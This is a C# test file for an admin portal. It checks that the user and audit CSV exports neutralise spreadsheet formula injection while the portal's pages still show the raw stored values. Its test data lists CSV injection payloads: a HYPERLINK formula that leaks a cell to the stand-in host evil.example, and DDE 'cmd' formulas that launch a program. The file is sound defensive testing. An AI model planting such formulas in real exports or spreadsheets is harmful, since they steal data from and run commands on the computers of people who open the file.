using System.Text;
using AdminPortal.App.Data;
using AdminPortal.App.Features.Audit;
using AdminPortal.App.Features.Users;
using AdminPortal.App.Tenancy;
using AdminPortal.Tests.Infrastructure;
using Microsoft.EntityFrameworkCore;
using Microsoft.Extensions.DependencyInjection;

namespace AdminPortal.Tests.Data;

/// <summary>
/// Formula injection (OWASP "CSV Injection"): tenants' text that a spreadsheet would run as a formula reaches both CSV
/// exports as text, while the portal's own pages keep showing exactly what was stored.
/// </summary>
public class CsvInjectionTests
{
    /// <summary>Stored value → the cell the export must write (before RFC 4180 quoting).</summary>
    public static readonly (string Stored, string Exported)[] Hostile =
    [
        ("=HYPERLINK(\"https://evil.example/?d=\"&A1,\"Click\")", "'=HYPERLINK(\"https://evil.example/?d=\"&A1,\"Click\")"),
        ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
        ("+SUM(1+1)", "'+SUM(1+1)"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
        ("\t=1+1", "'\t'=1+1"),
        ("\r=1+1", "'\r'=1+1"),
        ("Innocent;=cmd|' /C calc'!A0", "Innocent;'=cmd|' /C calc'!A0"),
        ("Innocent,@SUM(1)", "Innocent,'@SUM(1)"),
        ("Innocent|+1", "Innocent|'+1"),
        ("Innocent\"=1+1", "Innocent\"'=1+1"),
        ("Line one\n-1+1", "Line one\n'-1+1"),
    ];

    [Theory, BothProviders]
    public async Task UsersCsv_FormulaLikeNamesAndEmails_AreNeutralisedAndQuoted_WhileTheGridShowsThemRaw(DatabaseProvider provider)
    {
        await using var database = await TestDatabase.CreateMigratedAsync(provider, seed: true);
        long contoso;
        var ids = new List<long>();
        await using (var context = await database.ContextAsync(TenantScope.System()))
        {
            contoso = await context.Db.Customers.Where(c => c.Slug == "contoso").Select(c => c.Id).SingleAsync();
            var users = await context.Db.Users.Where(u => u.CustomerId == contoso).OrderBy(u => u.Id).Take(Hostile.Length).ToListAsync();
            for (int i = 0; i < Hostile.Length; i++)
            {
                users[i].DisplayName = Hostile[i].Stored;
                users[i].Email = $"{Hostile[i].Stored}{i}@contoso.example";
                users[i].LastSyncError = Hostile[i].Stored;
                ids.Add(users[i].Id);
            }

            await context.Db.SaveChangesAsync();
        }

        await using var scope = database.Scope(TenantScope.ForCustomer(contoso));
        var service = new UserService(scope.ServiceProvider.GetRequiredService<IDbContextFactory<PortalDbContext>>(), TimeProvider.System);
        await using var db = await scope.ServiceProvider.GetRequiredService<IDbContextFactory<PortalDbContext>>().CreateDbContextAsync();
        var output = new MemoryStream();
        await UserExport.WriteAsync(db, service, new UserFilter(), output, CancellationToken.None);

        var rows = ParseCsv(Encoding.UTF8.GetString(output.ToArray()));
        var header = rows[0].Select(c => c.Value).ToList();
        AssertNoCellStartsAFormula(rows);
        for (int i = 0; i < Hostile.Length; i++)
        {
            var row = rows.Single(r => r[0].Value == ids[i].ToString());
            foreach (string column in new[] { "display_name", "last_sync_error" })
            {
                var cell = row[header.IndexOf(column)];
                Assert.Equal(Hostile[i].Exported, cell.Value);
                Assert.True(cell.Quoted, $"{column} of row {i} should be quoted");
            }

            var email = row[header.IndexOf("email")];
            Assert.Equal(SpreadsheetSafe($"{Hostile[i].Stored}{i}@contoso.example"), email.Value);
            Assert.True(email.Quoted);
        }

        // The grid (what the portal shows) is unchanged: the raw text, as stored.
        var page = await service.GetPageAsync(new UserFilter(), new PageRequest(Size: 200));
        for (int i = 0; i < Hostile.Length; i++)
        {
            var shown = page.Rows.Single(r => r.Id == ids[i].ToString());
            Assert.Equal(Hostile[i].Stored, shown.DisplayName);
            Assert.Equal($"{Hostile[i].Stored}{i}@contoso.example", shown.Email);
        }
    }

    [Theory, BothProviders]
    public async Task AuditCsv_FormulaLikeActorsAndChanges_AreNeutralisedAndQuoted_WhileTheLogShowsThemRaw(DatabaseProvider provider)
    {
        await using var database = await TestDatabase.CreateMigratedAsync(provider, seed: true);
        long contoso;
        await using (var context = await database.ContextAsync(TenantScope.System()))
        {
            contoso = await context.Db.Customers.Where(c => c.Slug == "contoso").Select(c => c.Id).SingleAsync();
        }

        // Real audit entries, written by the save pipeline: the actor is the acting user's name, the changes hold the
        // old and new display names.
        for (int i = 0; i < Hostile.Length; i++)
        {
            await using var context = await database.ContextAsync(TenantScope.ForCustomer(contoso, actor: Hostile[i].Stored));
            var user = await context.Db.Users.OrderBy(u => u.Id).Skip(i).FirstAsync();
            user.DisplayName = Hostile[i].Stored;
            await context.Db.SaveChangesAsync();
        }

        await using var scope = database.Scope(TenantScope.ForCustomer(contoso));
        await using var db = await scope.ServiceProvider.GetRequiredService<IDbContextFactory<PortalDbContext>>().CreateDbContextAsync();
        var output = new MemoryStream();
        await AuditExport.WriteAsync(db, new AuditFilter(EntityType: "User", Action: "updated"), output, CancellationToken.None);

        var rows = ParseCsv(Encoding.UTF8.GetString(output.ToArray()));
        var header = rows[0].Select(c => c.Value).ToList();
        AssertNoCellStartsAFormula(rows);
        var actors = rows.Skip(1).Select(r => r[header.IndexOf("actor")]).ToList();
        foreach (var (stored, exported) in Hostile)
        {
            var actor = Assert.Single(actors, a => a.Value == exported);
            Assert.True(actor.Quoted);
        }

        // Inside the JSON of the changes, a new value that would start a cell after a quote is neutralised too.
        var changes = rows.Skip(1).Select(r => r[header.IndexOf("changes")].Value).ToList();
        Assert.Contains(changes, c => c.Contains("\"'=cmd|", StringComparison.Ordinal));
        Assert.DoesNotContain(changes, c => c.Contains("\"=cmd", StringComparison.Ordinal));

        // The audit page shows the actors exactly as stored.
        var audit = new AuditService(scope.ServiceProvider.GetRequiredService<IDbContextFactory<PortalDbContext>>());
        var shown = (await audit.GetPageAsync(new AuditFilter(EntityType: "User", Action: "updated"), new PageRequest(Size: 200))).Rows.Select(r => r.Actor).ToList();
        foreach (var (stored, _) in Hostile)
        {
            Assert.Contains(stored, shown);
        }
    }

    [Theory]
    [InlineData("Plain name", "Plain name")]
    [InlineData("O'Brien-Smith", "O'Brien-Smith")]
    [InlineData("someone@example.com", "someone@example.com")]
    [InlineData("2026-12-01T08:00:00.0000000Z", "2026-12-01T08:00:00.0000000Z")]
    [InlineData("a;=b", "a;'=b")]
    [InlineData("a\t+b", "a\t'+b")]
    [InlineData("a\r\n@b", "a\r\n'@b")]
    [InlineData("{\"name\":{\"old\":\"x\",\"new\":\"-1\"}}", "{\"name\":{\"old\":\"x\",\"new\":\"'-1\"}}")]
    public void NeutraliseInside_OnlyTouchesFormulasAfterACellBoundary(string value, string expected) =>
        Assert.Equal(expected, SpreadsheetSafeCsvWriter.NeutraliseInside(value));

    private static string SpreadsheetSafe(string value)
    {
        string inside = SpreadsheetSafeCsvWriter.NeutraliseInside(value)!;
        return SpreadsheetSafeCsvWriter.FormulaCharacters.Contains(inside[0]) ? "'" + inside : inside;
    }

    /// <summary>Whatever a spreadsheet takes as the start of a cell (the field, or any part after a boundary) is no formula.</summary>
    private static void AssertNoCellStartsAFormula(List<List<(string Value, bool Quoted)>> rows)
    {
        foreach (var (value, _) in rows.SelectMany(r => r))
        {
            if (value.Length == 0)
            {
                continue;
            }

            Assert.False(SpreadsheetSafeCsvWriter.FormulaCharacters.Contains(value[0]), $"A cell starts with a formula: {value}");
            for (int i = 1; i < value.Length; i++)
            {
                Assert.False(SpreadsheetSafeCsvWriter.FormulaCharacters.Contains(value[i]) && "\",;|\t\r\n".Contains(value[i - 1]), $"A formula follows a boundary: {value}");
            }
        }
    }

    /// <summary>An RFC 4180 reader that also says whether each field was quoted.</summary>
    private static List<List<(string Value, bool Quoted)>> ParseCsv(string text)
    {
        var rows = new List<List<(string, bool)>>();
        var row = new List<(string, bool)>();
        var field = new StringBuilder();
        bool quoted = false;
        int i = 0;
        while (i < text.Length)
        {
            char c = text[i];
            if (field.Length == 0 && !quoted && c == '"')
            {
                quoted = true;
                i++;
                while (true)
                {
                    if (text[i] == '"' && i + 1 < text.Length && text[i + 1] == '"')
                    {
                        field.Append('"');
                        i += 2;
                    }
                    else if (text[i] == '"')
                    {
                        i++;
                        break;
                    }
                    else
                    {
                        field.Append(text[i++]);
                    }
                }

                continue;
            }

            if (c == ',')
            {
                row.Add((field.ToString(), quoted));
                field.Clear();
                quoted = false;
                i++;
            }
            else if (c == '\r' && i + 1 < text.Length && text[i + 1] == '\n')
            {
                row.Add((field.ToString(), quoted));
                rows.Add(row);
                row = [];
                field.Clear();
                quoted = false;
                i += 2;
            }
            else
            {
                field.Append(c);
                i++;
            }
        }

        if (row.Count > 0 || field.Length > 0)
        {
            row.Add((field.ToString(), quoted));
            rows.Add(row);
        }

        return rows;
    }
}
